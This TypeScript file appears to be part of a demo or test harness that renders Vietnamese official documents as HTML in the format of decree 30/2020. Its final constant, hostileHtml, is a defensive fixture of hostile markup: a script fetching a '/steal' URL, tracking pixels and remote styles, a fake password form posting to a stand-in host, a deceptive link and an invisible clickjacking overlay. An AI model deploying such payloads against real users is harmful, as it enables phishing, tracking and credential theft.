import type { DemoDocument } from './demo-source';
import { place } from './document-text';

const escapes: Readonly<Record<string, string>> = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' };
const text = (value: string): string => value.replaceAll(/[&<>"]/g, (char) => escapes[char] ?? char);
const p = (value: string, style: string): string => `<p style="margin:0 0 6pt;${style}">${value}</p>`;

/** A document in the two-column head of decree 30/2020/NĐ-CP, appendix I, as office programs write it into letters. */
export function documentHtml(document: DemoDocument): string {
  const agency = document.agency.map((line) => text(line)).join('<br>');
  const number = document.number === null ? '' : `<div style="margin-top:6pt">Số: ${text(document.number)}</div>`;
  const about = document.type === null ? `<div style="font-size:12pt">V/v ${text(document.topic)}</div>` : '';
  const stamp = document.stamp === null ? '' : `<div style="margin-top:8pt"><span style="border:2px solid #c00000;color:#c00000;font-weight:bold;padding:2pt 8pt">${text(document.stamp)}</span></div>`;
  const addressees = document.addressees;
  return `<div style="font-family:'Times New Roman','Liberation Serif',serif;font-size:13pt;line-height:1.35;color:#000">
<table style="width:100%;border-collapse:collapse"><tr style="vertical-align:top">
<td style="width:42%;text-align:center;font-size:12pt;padding-right:5mm">${document.parent === null ? '' : `<div>${text(document.parent)}</div>`}<div><b>${agency}</b></div><div>———</div>${number}${about}${stamp}</td>
<td style="text-align:center;font-size:12pt;white-space:nowrap"><div><b>CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM</b></div><div><b>Độc lập - Tự do - Hạnh phúc</b></div><div>——————————</div><div style="margin-top:6pt"><i>${place}, ${text(document.day)}</i></div></td>
</tr></table>
${document.type === null ? '<br><br>' : `${p(`<b>${text(document.type)}</b>`, 'text-align:center;margin-top:14pt;font-size:14pt')}${document.topic === '' ? '' : p(`<b>${text(document.topic)}</b>`, 'text-align:center;margin-bottom:12pt')}`}
${document.lead === null ? '' : p(`<b>${text(document.lead)}</b>`, 'text-align:center')}
${addressees.length === 0 ? '' : addressees.length === 1 ? p(`Kính gửi: ${text(addressees[0] ?? '')}.`, 'text-align:center;margin-bottom:10pt') : `${p('Kính gửi:', 'margin-left:30%')}${addressees.map((name, index) => p(`- ${text(name)}${index + 1 < addressees.length ? ';' : '.'}`, 'margin-left:38%')).join('')}`}
${document.paragraphs.map((paragraph) => p(text(paragraph), isHeading(paragraph) ? 'text-align:center;font-weight:bold' : isBasis(document, paragraph) ? 'text-indent:1cm;font-style:italic' : 'text-indent:1cm;text-align:justify')).join('\n')}
<table style="width:100%;border-collapse:collapse;margin-top:10pt"><tr style="vertical-align:top">
<td style="width:50%;font-size:11pt">${document.recipients.length === 0 ? '' : `<b><i>Nơi nhận:</i></b><br>${document.recipients.map((name, index) => `- ${text(name)}${index + 1 < document.recipients.length ? ';' : '.'}`).join('<br>')}`}</td>
<td style="text-align:center"><b>${document.titles.map(text).join('<br>')}</b><br><br><br><br></td>
</tr></table></div>`;
}

/** What a decision rests on, in italics (appendix I, II.6); not a sentence of the body that begins alike. */
function isBasis(document: DemoDocument, paragraph: string): boolean {
  return document.type !== null && /^(?:Căn cứ|Theo đề nghị) /.test(paragraph) && !paragraph.endsWith('./.');
}

function isHeading(paragraph: string): boolean {
  return paragraph.length < 40 && paragraph === paragraph.toUpperCase() && /\p{L}/u.test(paragraph);
}

/** Any other text as HTML. */
export function plainHtml(body: string): string {
  return body.split(/\n{2,}/).map((paragraph) => `<p>${text(paragraph).replaceAll('\n', '<br>')}</p>`).join('\n');
}

/** What senders of the worse kind add: it must neither load, run, nor cover the window. */
export const hostileHtml = `<script>document.title = 'script ran'; fetch('http://127.0.0.1:9/steal');</script>
<img src="http://theo-doi.example/anh.gif?id=1" width="1" height="1" onerror="document.title='handler ran'">
<link rel="stylesheet" href="http://theo-doi.example/kieu.css"><style>@import url(http://theo-doi.example/them.css); body { background: url(http://theo-doi.example/nen.png) }</style>
<iframe src="http://theo-doi.example/khung"></iframe><form action="http://theo-doi.example/nhap"><input name="mat-khau" placeholder="Mật khẩu"><button>Đăng nhập</button></form>
<a href="javascript:alert(1)">Bấm vào đây</a> <a href="http://theo-doi.example/dang-nhap">https://ubnd.songthuong.example/dang-nhap</a>
<div style="position:fixed;inset:0;z-index:99999;opacity:0"><a href="http://theo-doi.example/phu">&nbsp;</a></div>`;
